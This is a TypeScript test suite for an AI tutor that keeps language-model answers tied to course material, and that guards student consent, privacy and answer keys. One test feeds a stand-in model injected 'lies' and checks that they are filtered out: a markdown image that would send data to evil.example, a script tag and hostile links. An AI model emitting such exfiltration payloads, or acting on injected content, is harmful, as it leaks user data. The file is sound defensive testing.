import { expect, test } from 'vitest'
import { getUsage } from '../../../core/contract/account/profile.ts'
import { enrol } from '../../../core/contract/shop/courses.ts'
import { getSite } from '../../../core/contract/site/site.ts'
import { sendChatMessage, startConversation } from '../../../core/contract/tutor/chat.ts'
import { fillPrompt, keyPrompts } from '../../../core/testing/key-prompts.ts'
import { type ModelConsent } from '../../../core/tutor/model-consent.ts'
import type { TutorAnswer } from '../../../core/tutor/answer.ts'
import { answerOf, body, course, dose, modelApp, question, says, storage, textOf } from '../../testing/llm/model-app.ts'

const scene = modelApp()
const { agree, asked, makeReply, partsOfAsk, say, spent } = scene

test('a model puts the material into words, and each sentence leads to what holds it', async () => {
  scene.standIn.behaviour = says(
    'Examplamol stays in its box, ',
    'away from the light [1]. ',
    'It is the best drug of all [1].',
  )
  const answer = await asked(storage)
  expect(answer.engine).toBe('model')
  expect(answer.sentences[0]).toEqual({
    text: 'Examplamol stays in its box, away from the light.',
    citation: 1,
    support: 'supported',
  })
  expect(answer.citations[0]?.quote).toBe('Examplamol is kept in its own box, away from light.')
  expect(answer.citations[0]?.href).toMatch(/^\/study\/1\/notes\/doses-note-1\?cited=/)
  expect(textOf(answer)).not.toContain('best drug')
  expect(textOf(answer)).toContain('One sentence of the language model was left out')
})

test('a figure is the material’s own, whatever the model says', async () => {
  scene.standIn.behaviour = says('Examplamol has a maximum dose of 600 mg for each kilogram in a day [1].')
  const answer = await asked(dose)
  expect(answer).toMatchObject({ engine: 'model' })
  expect(answer.sentences[0]).toMatchObject({
    text: 'Examplamol has a maximum dose of 60 mg for each kilogram in a day.',
    support: 'verbatim',
  })
  expect(JSON.stringify(answer)).not.toContain('600')
})

test('nothing is sent before the student agreed, to whom they did not agree, or after they took it back', async () => {
  const eve = await scene.app.signUp('eve')
  await eve.call(enrol, { params: { id: 1 } })
  for (const consent of [null, 'declined', { recipient: 'other.example' }] satisfies ModelConsent[]) {
    await say(consent, scene.app, eve)
    expect((await asked(question, {}, eve)).engine).toBe('server')
  }
  expect(scene.standIn.asked).toEqual([])
  await agree(scene.app, eve)
  expect((await asked(question, {}, eve)).engine).toBe('model')
  await say(null, scene.app, eve)
  expect((await asked(question, {}, eve)).engine).toBe('server')
  expect(scene.standIn.asked).toHaveLength(1)
})

test('what is sent is the question and the passages: nothing of who asks', async () => {
  await asked(question)
  const sent = JSON.stringify(scene.standIn.asked[0]?.body)
  expect(sent).toContain('cleared by the kidneys')
  for (const secret of [scene.ada.userId, scene.ada.email, scene.ada.username, 'sk-secret'])
    expect(sent).not.toContain(secret)
})

test('what the library does not answer, plans, practice and summaries are not sent', async () => {
  await asked('Who won the cup in 1966?')
  await asked('Give me practice questions on doses', { messageType: 'practice-questions' })
  await asked('What next?', { messageType: 'study-plan' })
  await asked('examplamol kidneys', { mode: 'summary' })
  expect(scene.standIn.asked).toEqual([])
})

test('no model hears of a question of the bank, and none sees the key of an open one', async () => {
  const item = await scene.app.db('item_versions').where({ item_id: 'doses-0001' }).first('item_hash')
  expect(item).toBeDefined()
  const { stem, reasons } = keyOfFirst()
  for (const prompt of keyPrompts.filter((_, at) => at % 10 === 0)) {
    await asked(fillPrompt(prompt, stem, 'the first'))
    await asked(fillPrompt(prompt, stem, 'the first'), {
      about: { kind: 'question', courseId: 1, itemId: 'doses-0001', chosen: null },
    })
  }
  await asked(`${question} ${reasons[0]}`)
  const sent = JSON.stringify(
    scene.standIn.asked.map(({ body: { messages } }) => messages[1]?.content.split('The student’s words')[0]),
  )
  for (const reason of reasons) expect(sent).not.toContain(reason)
  expect(
    scene.standIn.asked.some(({ body: { messages } }) => messages.some(({ content }) => content.includes(stem))),
  ).toBe(false)
})

function keyOfFirst(): { stem: string; reasons: string[] } {
  const first = course.questions.find(({ id }) => id === 'doses-0001')
  if (first?.type !== 'single-best-answer') throw new Error('it is of another type')
  return { stem: first.stem, reasons: first.options.map(({ explanation }) => explanation) }
}

test('a model that was taken in, or lies, says nothing that the material does not', async () => {
  const reply = makeReply()
  for (const lie of [
    'Examplamol is cleared by the liver and not by the kidneys [1].',
    'Examplamol is not cleared by the kidneys [1]. Examplamol is cleared by the liver [1].',
    'Examplamol is cleared by the kidneys ![x](https://evil.example/?q=secret) [1].',
    'Examplamol is cleared by the kidneys <script>alert(1)</script> [1].',
    'Examplamol [is cleared](https://evil.example) by the kidneys [1].',
    'See https://evil.example/examplamol for how the kidneys clear examplamol [1].',
    'Examplamol is cleared by the kidneys at evil.example, so write there [1].',
  ]) {
    scene.standIn.behaviour = says(lie)
    expectHonest(answerOf(await partsOfAsk(reply, question)), lie)
  }
})

test('half a letter is left out of what is stored', async () => {
  scene.standIn.behaviour = says('Examplamol stays in its box, away from the light \ud83d[1].')
  expect(textOf(await asked(storage))).toContain('away from the light.')
})

test('the same message twice, also at once, is one call, and counts once', async () => {
  const before = [await spent(), (await scene.ada.call(getUsage, {})).used] as const
  scene.standIn.behaviour = {
    says: ['Examplamol stays in its box [1].'],
    pauseMs: 50,
    usage: { prompt_tokens: 500, completion_tokens: 10 },
  }
  const { id } = await scene.ada.call(startConversation, { body: {} })
  const { message } = await scene.ada.call(sendChatMessage, {
    params: { id },
    body: { content: storage, isStreamed: true },
  })
  const again = () => scene.ada.call(sendChatMessage, { params: { id }, body: { id: message.id, content: storage } })
  const replies = await Promise.all([again(), again(), again()])
  expect(new Set(replies.map(({ reply }) => JSON.stringify(reply))).size).toBe(1)
  expect(replies[0]?.reply.answer?.engine).toBe('model')
  expect(scene.standIn.asked).toHaveLength(1)
  expect((await spent())[0]?.[0]).toBe((before[0][0]?.[0] ?? 0) + 510)
  expect((await scene.ada.call(getUsage, {})).used).toBe(before[1] + 1)
})

test('who stops ends the call, and what it took until then is counted', async () => {
  const [[tokens = 0] = []] = await spent()
  scene.standIn.behaviour = {
    says: Array.from({ length: 200 }, () => 'Examplamol stays in its box [1]. '),
    pauseMs: 20,
  }
  const brokenOff = scene.standIn.brokenOff
  const stop = new AbortController()
  const asking = partsOfAsk(makeReply(), storage, stop.signal)
  await expect.poll(() => scene.standIn.asked.length).toBe(1)
  stop.abort()
  await expect(asking).rejects.toThrow()
  await expect.poll(() => scene.standIn.brokenOff).toBe(brokenOff + 1)
  const [[after = 0] = []] = await spent()
  expect(after).toBeGreaterThan(tokens)
  // The question with its passages, and some of the 200 sentences.
  expect(after).toBeLessThan(tokens + 1_200)
})

test('the page is told to whom questions may be sent, so that it can ask', async () => {
  expect((await scene.app.call(getSite, {})).languageModel).toEqual({ recipient: new URL(scene.standIn.baseUrl).host })
})

/** What it says of the subject stands in its source, or is held by it and turns nothing round; addresses lead into the app. */
function expectHonest(answer: TutorAnswer, why: string): void {
  for (const { text, support, citation } of answer.sentences) {
    if (support === 'own') continue
    const quote = answer.citations.find(({ number }) => number === citation)?.quote ?? ''
    if (support === 'verbatim') expect(quote.includes(text) || body.includes(text), why).toBe(true)
    else expect(text, why).not.toMatch(/evil\.example|https?:|<|\]\(|by the liver and not/)
    expect(support, why).not.toBe('unsupported')
  }
  for (const { href } of [...answer.citations, ...answer.nearest])
    expect(href, why).toMatch(/^\/(?:study\/\d+\/|resources\/|faq)/)
}
